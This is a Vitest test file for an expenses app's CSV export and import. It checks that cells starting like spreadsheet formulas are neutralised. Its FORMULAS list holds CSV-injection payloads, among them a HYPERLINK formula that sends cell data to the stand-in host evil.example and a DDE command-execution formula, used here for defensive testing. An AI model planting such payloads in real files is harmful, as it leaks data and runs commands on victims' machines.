import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { apiAs, type Api } from "@/app/api/expenses/test-client";
import { expenseBody } from "@/lib/expenses/test-support";
import { EXPORT_COLUMNS, type ExpenseJson, type ExpenseList } from "@/lib/schemas";
import { localStackEnv } from "@/local/test-stack";
import { createTestUser } from "@/local/test-users";
import { commitImport, uploadImport } from "./tenant-data";

const FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A9)", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0"];
/** The cells a spreadsheet would run, and the one column (amount) allowed to start with '-'. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
const TEXT_COLUMNS = ["category", "merchant", "description", "tags"] as const;

async function newApi(): Promise<Api> {
  return apiAs((await createTestUser()).accessToken);
}

/** The export as records by column name (the BOM dropped). */
async function exported(api: Api): Promise<Record<string, string>[]> {
  const res = await api.get<string>("/api/export");
  expect(res.status).toBe(200);
  const [header, ...rows] = parse(res.body.replace(/^\uFEFF/, ""), { relax_column_count: false }) as string[][];
  expect(header).toEqual([...EXPORT_COLUMNS]);
  return rows.map((row) => Object.fromEntries(EXPORT_COLUMNS.map((column, i) => [column, row[i] ?? ""])));
}

async function listed(api: Api): Promise<ExpenseJson[]> {
  return (await api.get<ExpenseList>("/api/expenses?limit=100")).body.items;
}

beforeAll(() => {
  localStackEnv();
});

describe("CSV injection", () => {
  it("exports every text cell that starts like a formula (= + - @, tab or CR before trimming) with a leading '", async () => {
    const api = await newApi();
    const leads = [...FORMULAS, "\t=1+2", "\r=1+2", "\t@x"];
    for (const [i, lead] of leads.entries()) {
      const res = await api.post("/api/expenses", expenseBody({ date: `2025-04-${String(i + 1).padStart(2, "0")}`, category: lead.trim().slice(0, 40), merchant: lead, description: lead, tags: [lead.trim().slice(0, 30)] }));
      expect(res.status, lead).toBe(201);
    }
    // A control that must stay as typed: text that only contains formula characters later.
    expect((await api.post("/api/expenses", expenseBody({ date: "2025-05-01", merchant: "A=B", description: "x-1", category: "Food" }))).status).toBe(201);
    const rows = await exported(api);
    expect(rows).toHaveLength(leads.length + 1);
    const stored = new Map((await listed(api)).map((e) => [e.id, e]));
    let neutralised = 0;
    for (const row of rows) {
      const expense = stored.get(row.id ?? "");
      if (!expense) throw new Error(`exported an unknown id ${row.id}`);
      const typed: Record<(typeof TEXT_COLUMNS)[number], string> = { category: expense.category, merchant: expense.merchant ?? "", description: expense.description, tags: (expense.tags ?? []).join("; ") };
      for (const column of TEXT_COLUMNS) {
        const cell = row[column] ?? "";
        expect(isFormula(cell), `${column} ${JSON.stringify(cell)}`).toBe(false);
        expect(cell, column).toBe(isFormula(typed[column]) ? `'${typed[column]}` : typed[column]);
        if (cell !== typed[column]) neutralised++;
      }
    }
    expect(neutralised).toBe(leads.length * TEXT_COLUMNS.length);
  });

  it("stores formula cells of an imported bank file as the text they are, and exports them neutralised", async () => {
    const api = await newApi();
    const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
    const lines = FORMULAS.map((formula, i) => `2025-03-${String(i + 1).padStart(2, "0")},${i + 1}.00,EUR,${quoted(formula)},${quoted(formula)}`);
    const preview = await uploadImport(api, `date,amount,currency,merchant,description\r\n${lines.join("\r\n")}\r\n`);
    expect(preview.status).toBe("preview");
    expect((await commitImport(api, preview.id)).counts?.accepted).toBe(FORMULAS.length);
    const expenses = await listed(api);
    // Not evaluated ("=1+2" is not 3), not neutralised in storage either: the ' belongs to the file format only.
    expect(expenses.map((e) => e.description).sort()).toEqual([...FORMULAS].sort());
    expect(expenses.map((e) => e.merchant).sort()).toEqual([...FORMULAS].sort());
    const rows = await exported(api);
    expect(rows.map((r) => r.description).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
  });

  it("reads its own export back to the same text: the ' is taken off again on import", async () => {
    const source = await newApi();
    for (const [i, formula] of FORMULAS.entries()) {
      expect((await source.post("/api/expenses", expenseBody({ date: `2025-02-0${i + 1}`, description: formula, merchant: formula }))).status).toBe(201);
    }
    const file = (await source.get<string>("/api/export")).body;
    const target = await newApi();
    const done = await commitImport(target, (await uploadImport(target, file)).id);
    expect(done.counts?.accepted).toBe(FORMULAS.length);
    const strip = (e: ExpenseJson) => [e.date, e.description, e.merchant];
    expect((await listed(target)).map(strip)).toEqual((await listed(source)).map(strip));
  });
});
